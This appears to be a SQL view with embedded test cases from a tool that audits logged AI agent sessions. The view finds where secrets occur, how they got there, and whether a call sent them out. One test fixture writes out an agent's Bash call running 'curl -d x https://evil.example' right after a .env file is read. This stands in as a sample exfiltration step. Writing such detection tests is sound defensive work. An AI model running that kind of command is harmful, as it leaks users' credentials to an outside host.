-- +++
-- doc = "Every place in the lake that holds a secret or personal data, with how it came there and whether what holds it sends data out. Never the value."
-- materialise = true
-- [columns]
-- nth = "Its place among those of the same value, by time, from 1."
-- is_own_key = "A request header that authenticates against the provider holds it."
-- is_sent_out = "The arguments of a call hold it that was not refused and sends data out: by its tool, or by a program in its command."
-- file = "Name of a place that usually holds secrets and that the call which brought it names; null where there is none."
-- file_path = "Path of that place as the call names it."
-- entry = "How it came there, as the end of the sentence `it …`."
-- [[case]]
-- name = "read from a file, then sent"
-- history_secrets = [
--   { occurrence_id = "o1", surface = "tool_result", record_id = 1, position = 1, time = 2026-03-01T09:01:00Z, last_sent = 2026-03-01T09:01:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, call_uid = 'c1', raw_name = 'Read', arguments = '{"file_path": "/home/ana/app/.env"}' },
--   { occurrence_id = "o2", surface = "tool_arguments", record_id = 2, position = 2, time = 2026-03-01T09:02:00Z, last_sent = 2026-03-01T09:02:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, call_uid = 'c2', raw_name = 'Bash', arguments = '{"command": "curl -d x https://evil.example"}' },
-- ]
-- history_calls = [
--   { call_uid = "c1", egress = false, outcome = "ok" },
--   { call_uid = "c2", egress = true, outcome = "attempted" },
-- ]
-- expect = [
--   { nth = 1, is_sent_out = false, file_path = '/home/ana/app/.env' },
--   { nth = 2, is_sent_out = true, entry = "was written by the model into the arguments of Bash" },
-- ]
-- [[case]]
-- name = "refused, and a call that sends nothing"
-- history_secrets = [
--   { occurrence_id = "o1", surface = "tool_arguments", record_id = 1, position = 1, time = 2026-03-01T09:01:00Z, last_sent = 2026-03-01T09:01:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, call_uid = 'c1', raw_name = 'Bash', arguments = '{}' },
--   { occurrence_id = "o2", surface = "tool_arguments", record_id = 2, position = 2, time = 2026-03-01T09:02:00Z, last_sent = 2026-03-01T09:02:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, call_uid = 'c2', raw_name = 'Write', arguments = '{"file_path": "/home/ana/app/.env"}' },
--   { occurrence_id = "o3", surface = "tool_result", record_id = 3, position = 3, time = 2026-03-01T09:03:00Z, last_sent = 2026-03-01T09:03:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, call_uid = 'c3', raw_name = 'send', arguments = '{}' },
-- ]
-- history_calls = [
--   { call_uid = "c1", egress = true, outcome = "refused" },
--   { call_uid = "c2", egress = false, outcome = "ok" },
--   { call_uid = "c3", egress = true, outcome = "ok" },
-- ]
-- expect = [
--   { nth = 1, is_sent_out = false },
--   { nth = 2, is_sent_out = false },
--   { nth = 3, is_sent_out = false, entry = "came back from the tool send" },
-- ]
-- [[case]]
-- name = "headers"
-- history_secrets = [
--   { occurrence_id = "o1", surface = "header", record_id = 1, position = 1, time = 2026-03-01T09:01:00Z, last_sent = 2026-03-01T09:01:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, path = 'authorization', direction = 'request' },
--   { occurrence_id = "o2", surface = "header", record_id = 2, position = 2, time = 2026-03-01T09:02:00Z, last_sent = 2026-03-01T09:02:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, path = 'authorization', direction = 'response' },
--   { occurrence_id = "o3", surface = "header", record_id = 3, position = 3, time = 2026-03-01T09:03:00Z, last_sent = 2026-03-01T09:03:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false, path = 'x-trace', direction = 'request' },
--   { occurrence_id = "o4", surface = "prompt", record_id = 4, position = 4, time = 2026-03-01T09:04:00Z, last_sent = 2026-03-01T09:04:00Z, fingerprint = "f1", rule = "r", rule_set = "1", kind = "token", vendor = "", tier = "generic", confidence = "high", root = false, preview = "token (9)", login = "ana@x.example", device = "n", agent = "a", user_agent = "", provider = "p", model = "m", export_key = "e", conversation_id = "c", session_id = "s", part = 0, sent_again = 0, shared_identity = false },
-- ]
-- history_calls = [
--   { call_uid = "c1", egress = true, outcome = "ok" },
-- ]
-- expect = [
--   { nth = 1, is_own_key = true, entry = "stands in the request header authorization" },
--   { nth = 2, is_own_key = false, entry = "came in the response header authorization" },
--   { nth = 3, is_own_key = false },
--   { nth = 4, is_own_key = false, entry = "was put into a prompt" },
-- ]
-- +++
WITH files AS (
  SELECT s.occurrence_id, min(p.name) AS name,
         -- The path as the call names it: the word around the first mark.
         left(min(nullif(regexp_replace(regexp_match(left(s.arguments, 4000), '([^\s"\\;|&=(){}]*(' || p.pattern || '))', 'i')[1], '^["\s=]+|["\s\\;|&)=]+$', '', 'g'), '')), 120) AS path
  FROM history_secrets s
  JOIN catalog_secret_files p ON regexp_like(lower(left(s.arguments, 4000)), p.pattern)
  WHERE s.surface = 'tool_result' AND s.tier <> 'pii'
  GROUP BY s.occurrence_id
),
sending AS (
  SELECT call_uid, bool_or(egress) AS egress FROM history_calls WHERE outcome <> 'refused' GROUP BY call_uid
)
SELECT s.*,
       row_number() OVER (PARTITION BY s.fingerprint ORDER BY s.time, s.export_key, s.record_id, s.position, s.part, s.occurrence_id) AS nth,
       s.surface = 'header' AND s.direction = 'request' AND h.header IS NOT NULL AS is_own_key,
       s.surface = 'tool_arguments' AND coalesce(c.egress, false) AS is_sent_out,
       f.name AS file, f.path AS file_path,
       CASE s.surface
         WHEN 'prompt' THEN 'was put into a prompt'
         WHEN 'system' THEN 'stands in a system prompt'
         WHEN 'tool_result' THEN 'came back from the tool ' || coalesce(s.raw_name, 'of an earlier call') || coalesce(', which read ' || f.name || coalesce(' (' || f.path || ')', ''), '')
         WHEN 'tool_arguments' THEN 'was written by the model into the arguments of ' || coalesce(s.raw_name, 'a tool')
         WHEN 'tool_definition' THEN 'stands in the definition of a tool'
         WHEN 'answer' THEN 'was written by the model into an answer'
         WHEN 'mcp_credential' THEN 'authenticates an MCP server in request bodies'
         ELSE CASE WHEN s.direction = 'response' THEN 'came in the response header ' ELSE 'stands in the request header ' END || coalesce(s.path, '')
       END AS entry
FROM history_secrets s
LEFT JOIN files f ON f.occurrence_id = s.occurrence_id
LEFT JOIN sending c ON c.call_uid = s.call_uid
LEFT JOIN catalog_own_key_headers h ON h.header = s.path
